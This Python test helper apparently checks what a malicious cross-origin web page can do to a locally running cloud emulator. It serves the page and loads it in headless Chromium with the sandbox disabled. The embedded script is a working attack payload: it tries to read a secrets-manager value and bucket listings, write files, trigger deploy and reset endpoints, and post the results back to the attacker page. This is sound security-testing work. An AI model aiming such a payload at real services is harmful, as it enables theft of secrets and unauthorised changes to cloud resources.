"""A headless Chromium, and a web page of another origin that attacks a local cloud and reports what it could do."""

import json
import shutil
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from queue import SimpleQueue
from typing import Any, Final

CHROMIUM: Final = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), "")
"""Debian's and Ubuntu's programs; empty if there is none."""

OPTIONS: Final = (
    "--headless=new",
    "--no-sandbox",  # which root cannot have
    "--disable-gpu",
    "--disable-dev-shm-usage",
    "--disable-background-networking",
    "--no-first-run",
    "--no-proxy-server",
    "--host-resolver-rules=MAP *.evil.example 127.0.0.1",
)
REPORT_SECONDS: Final = 60

PAGE: Final = """<!doctype html>
<script>
const report = {};
const signature = "AWS4-HMAC-SHA256 Credential=local/20211126/eu-west-1/secretsmanager/aws4_request,";
const attempt = async (name, path, options) => {
  try { report[name] = await (await fetch("CLOUD" + path, options)).text(); }
  catch (error) { report[name] = ""; }
};
const image = path => new Promise(ended => {
  const element = new Image();
  element.onload = element.onerror = ended;
  element.src = "CLOUD" + path;
});
// As a form sends it: nobody is asked first, and the answer cannot be read.
const form = new FormData();
form.append("key", "dropped.csv");
form.append("file", "25/08/2021");
(async () => {
  const headers = {"X-Amz-Target": "secretsmanager.GetSecretValue", Authorization: signature};
  const body = JSON.stringify({SecretId: "cafe-etl/hash-key"});
  await attempt("secret", "/", {method: "POST", body, headers});
  await attempt("listing", "/ads-raw-data?list-type=2");
  await attempt("put", "/ads-raw-data/put.csv", {method: "PUT", body: "x"});
  await attempt("status", "/_local/status", {method: "POST", headers: {"X-Cafe-Etl-Key": "local"}});
  await attempt("form", "/ads-raw-data", {method: "POST", mode: "no-cors", body: form});
  await attempt("deploy", "/_local/deploy", {method: "POST", mode: "no-cors"});
  await image("/_local/reset");
  await fetch("/report", {method: "POST", body: JSON.stringify(report)});
})();
</script>
"""


def attack(cloud: str, profile: Path) -> dict[str, str]:
    """Open the page in Chromium; return what it could read of a cloud, by the name of the attempt."""
    with site(PAGE.replace("CLOUD", cloud)) as (url, reports):
        process = subprocess.Popen(
            [CHROMIUM, *OPTIONS, f"--user-data-dir={profile}", url],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        try:
            return reports.get(timeout=REPORT_SECONDS)
        finally:
            process.terminate()
            process.wait()


def shown(url: str, profile: Path) -> str:
    """Open an address in Chromium; return what it shows, as HTML."""
    command = [CHROMIUM, *OPTIONS, f"--user-data-dir={profile}", "--dump-dom", url]
    return subprocess.run(
        command, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True, check=True, timeout=60
    ).stdout


@contextmanager
def site(page: str) -> Iterator[tuple[str, "SimpleQueue[dict[str, str]]"]]:
    """Serve the page on a port of its own; yield its address, and the queue of its reports."""
    reports: SimpleQueue[dict[str, str]] = SimpleQueue()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self._answer(page.encode())

        def do_POST(self) -> None:
            reports.put(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
            self._answer(b"")

        def _answer(self, body: bytes) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_arguments: Any) -> None:
            """Print nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://localhost:{server.server_port}/", reports
    finally:
        server.shutdown()
        server.server_close()
